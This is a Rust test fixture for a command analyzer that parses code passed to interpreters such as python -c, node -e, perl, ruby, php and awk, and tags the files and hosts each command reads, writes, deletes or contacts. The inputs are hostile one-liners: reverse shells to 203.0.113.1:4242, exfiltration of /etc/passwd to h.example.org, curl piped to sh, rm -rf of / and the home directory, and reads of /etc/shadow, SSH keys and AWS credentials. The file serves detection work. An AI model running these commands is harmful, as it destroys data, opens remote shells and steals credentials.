//! Code given to interpreters.

use super::Case;

pub(super) const CASES: &[Case] = &[
    (
        r#"python3 -c 'print("hi")'"#,
        &[r#"python3 -c print("hi")"#],
    ),
    (
        r#"python3 -c "open('/etc/shadow').read()""#,
        &["python3 -c open('/etc/shadow').read() R=/etc/shadow"],
    ),
    (
        r#"python3 -c "open('/tmp/x','w').write('a')""#,
        &["python3 -c open('/tmp/x','w').write('a') W=/tmp/x"],
    ),
    (
        r#"python3 -c 'import os;os.system("cat ~/.ssh/id_rsa")'"#,
        &[
            r#"python3 -c "import os;os.system(\"cat ~/.ssh/id_rsa\")""#,
            "[python -c] cat /home/u/.ssh/id_rsa R=/home/u/.ssh/id_rsa",
        ],
    ),
    (
        r#"python3 -c 'import os;os.remove("/etc/passwd")'"#,
        &[r#"python3 -c "import os;os.remove(\"/etc/passwd\")" D=/etc/passwd"#],
    ),
    (
        r#"python3 -c 'import subprocess; subprocess.run(["rm","-rf","/"])'"#,
        &[
            r#"python3 -c "import subprocess; subprocess.run([\"rm\",\"-rf\",\"/\"])""#,
            "[python -c] rm -rf / D=/",
        ],
    ),
    (
        r#"python3 -c 'import subprocess; subprocess.check_output("cat f | sh", shell=True)'"#,
        &[
            r#"python3 -c "import subprocess; subprocess.check_output(\"cat f | sh\", shell=True)""#,
            "[python -c] cat f R=f",
            "[python -c] sh <1",
        ],
    ),
    (
        r#"python3 -c 'import shutil; shutil.rmtree("/home/u")'"#,
        &[r#"python3 -c "import shutil; shutil.rmtree(\"/home/u\")" D=/home/u"#],
    ),
    (
        r#"python3 -c "from pathlib import Path; print(Path('~/.aws/credentials').expanduser().read_text())""#,
        &[
            r#"python3 -c "from pathlib import Path; print(Path('~/.aws/credentials').expanduser().read_text())" R=/home/u/.aws/credentials"#,
        ],
    ),
    (
        r#"python3 -c "import urllib.request as u; u.urlopen('https://h.example.org/'+open('/etc/passwd').read())""#,
        &[
            r#"python3 -c "import urllib.request as u; u.urlopen('https://h.example.org/'+open('/etc/passwd').read())" R=/etc/passwd H=https://h.example.org/"#,
        ],
    ),
    (
        r#"python -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.1",4242));subprocess.call(["/bin/sh","-i"])'"#,
        &[
            r#"python -c "import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.1\",4242));subprocess.call([\"/bin/sh\",\"-i\"])" H=203.0.113.1:4242"#,
            "[python -c] sh -i",
        ],
    ),
    (
        r#"python -c 'import pty;pty.spawn("/bin/bash")'"#,
        &[
            r#"python -c "import pty;pty.spawn(\"/bin/bash\")""#,
            "[python -c] bash",
        ],
    ),
    (
        r#"python3 -c 'exec("""import os
os.system("id")""")'"#,
        &[
            r#"python3 -c "exec(\"\"\"import os\nos.system(\"id\")\"\"\")""#,
            "[python -c] id",
        ],
    ),
    (
        r#"python3 -c 'x=[1];x.remove("a");cur.execute("select 1");re.compile("rm -rf /")'"#,
        &[
            r#"python3 -c "x=[1];x.remove(\"a\");cur.execute(\"select 1\");re.compile(\"rm -rf /\")""#,
        ],
    ),
    (
        r#"python3 -c '"""os.system("rm")"""'"#,
        &[r#"python3 -c """os.system("rm")""""#],
    ),
    (
        "python3 script.py a b",
        &["python3 script.py a b R=script.py"],
    ),
    ("python3 -m http.server", &["python3 -m http.server"]),
    ("python3 -m pytest tests", &["python3 -m pytest tests"]),
    (
        r#"python3 <<EOF
import os
os.remove("/etc/passwd")
EOF"#,
        &["python3 D=/etc/passwd"],
    ),
    (
        r#"echo 'import os; os.system("id")' | python3"#,
        &[
            r#"echo "import os; os.system(\"id\")""#,
            "python3 <0",
            "[python -c] id",
        ],
    ),
    (
        r#"node -e 'require("fs").readFileSync("/etc/passwd")'"#,
        &[r#"node -e require("fs").readFileSync("/etc/passwd") R=/etc/passwd"#],
    ),
    (
        r#"node -e 'require("child_process").exec("curl h.example.org|sh")'"#,
        &[
            r#"node -e "require(\"child_process\").exec(\"curl h.example.org|sh\")""#,
            "[node -e] curl h.example.org H=h.example.org",
            "[node -e] sh <1",
        ],
    ),
    (
        r#"node -e 'const {execSync:e}=require("child_process");execSync(`rm -rf ~`)'"#,
        &[
            r#"node -e "const {execSync:e}=require(\"child_process\");execSync(`rm -rf ~`)""#,
            "[node -e] rm -rf /home/u D=/home/u",
        ],
    ),
    (
        r#"node --eval 'fetch("https://h.example.org/x")'"#,
        &[r#"node --eval fetch("https://h.example.org/x") H=https://h.example.org/x"#],
    ),
    (
        r#"node -p '/x/.exec("rm -rf /")'"#,
        &[r#"node -p "/x/.exec(\"rm -rf /\")""#],
    ),
    (
        r#"node -e 'require("fs").writeFileSync("a","b");require("fs").unlinkSync("c")'"#,
        &[r#"node -e require("fs").writeFileSync("a","b");require("fs").unlinkSync("c") W=a D=c"#],
    ),
    ("node server.js", &["node server.js R=server.js"]),
    (
        r#"perl -e 'system("cat f")'"#,
        &[r#"perl -e "system(\"cat f\")""#, "[perl -e] cat f R=f"],
    ),
    (
        r#"perl -e 'system "cat f"; exec("/bin/sh -i")'"#,
        &[
            r#"perl -e "system \"cat f\"; exec(\"/bin/sh -i\")""#,
            "[perl -e] cat f R=f",
            "[perl -e] sh -i",
        ],
    ),
    (
        r#"perl -e 'use Socket;$i="203.0.113.1";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");'"#,
        &[
            r#"perl -e "use Socket;$i=\"203.0.113.1\";$p=4242;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));exec(\"/bin/sh -i\");" H=203.0.113.1"#,
            "[perl -e] sh -i",
        ],
    ),
    (
        r#"perl -e 'unlink "/etc/passwd"; open(F,"<","/etc/shadow"); open(G,">out")'"#,
        &[
            r#"perl -e "unlink \"/etc/passwd\"; open(F,\"<\",\"/etc/shadow\"); open(G,\">out\")" R=/etc/shadow W=out D=/etc/passwd"#,
        ],
    ),
    ("perl -pi -e 's/a/b/' f", &["perl -pi -e s/a/b/ f R=f W=f"]),
    (
        "perl -ne 'print if /x/' f",
        &[r#"perl -ne "print if /x/" f R=f"#],
    ),
    (
        r#"ruby -e 'puts File.read("/etc/passwd")'"#,
        &[r#"ruby -e "puts File.read(\"/etc/passwd\")" R=/etc/passwd"#],
    ),
    (
        r#"ruby -e 'system("cat f"); File.delete("g")'"#,
        &[
            r#"ruby -e "system(\"cat f\"); File.delete(\"g\")" D=g"#,
            "[ruby -e] cat f R=f",
        ],
    ),
    (
        r#"ruby -rsocket -e 'f=TCPSocket.open("203.0.113.1",4242).to_i;exec sprintf("/bin/sh -i",f)'"#,
        &[
            r#"ruby -rsocket -e "f=TCPSocket.open(\"203.0.113.1\",4242).to_i;exec sprintf(\"/bin/sh -i\",f)" H=203.0.113.1:4242"#,
            "[ruby -e] sh -i",
        ],
    ),
    (
        r#"php -r 'system("cat f");'"#,
        &[r#"php -r "system(\"cat f\");""#, "[php -r] cat f R=f"],
    ),
    (
        r#"php -r '$sock=fsockopen("203.0.113.1",4242);exec("/bin/sh -i");'"#,
        &[
            r#"php -r "$sock=fsockopen(\"203.0.113.1\",4242);exec(\"/bin/sh -i\");" H=203.0.113.1:4242"#,
            "[php -r] sh -i",
        ],
    ),
    (
        r#"php -r 'echo file_get_contents("/etc/shadow"); unlink("/etc/passwd");'"#,
        &[
            r#"php -r "echo file_get_contents(\"/etc/shadow\"); unlink(\"/etc/passwd\");" R=/etc/shadow D=/etc/passwd"#,
        ],
    ),
    (
        "php -r '`cat f`;'",
        &[r#"php -r "`cat f`;""#, "[php -r] cat f R=f"],
    ),
    (
        r#"osascript -e 'do shell script "rm -rf ~"'"#,
        &[
            r#"osascript -e "do shell script \"rm -rf ~\"""#,
            "[osascript -e] rm -rf /home/u D=/home/u",
        ],
    ),
    (
        r#"lua -e 'os.execute("cat f")'"#,
        &[r#"lua -e "os.execute(\"cat f\")""#, "[lua -e] cat f R=f"],
    ),
    (
        r#"awk 'BEGIN {system("cat f")}'"#,
        &[r#"awk "BEGIN {system(\"cat f\")}""#, "[awk] cat f R=f"],
    ),
    (
        r#"awk '{print > "/tmp/x"}' f"#,
        &[r#"awk "{print > \"/tmp/x\"}" f R=f W=/tmp/x"#],
    ),
    (
        r#"awk 'BEGIN{while((getline l < "/etc/shadow")>0) print l}'"#,
        &[r#"awk "BEGIN{while((getline l < \"/etc/shadow\")>0) print l}" R=/etc/shadow"#],
    ),
    (
        r#"awk 'BEGIN {print "x" | "sh"}'"#,
        &[r#"awk "BEGIN {print \"x\" | \"sh\"}""#, "[awk] sh <0"],
    ),
    (
        r#"awk '{print $1 ":" $2}' f"#,
        &[r#"awk "{print $1 \":\" $2}" f R=f"#],
    ),
    (
        r#"deno eval 'Deno.readTextFileSync("/etc/passwd")'"#,
        &[r#"deno eval Deno.readTextFileSync("/etc/passwd") R=/etc/passwd"#],
    ),
];
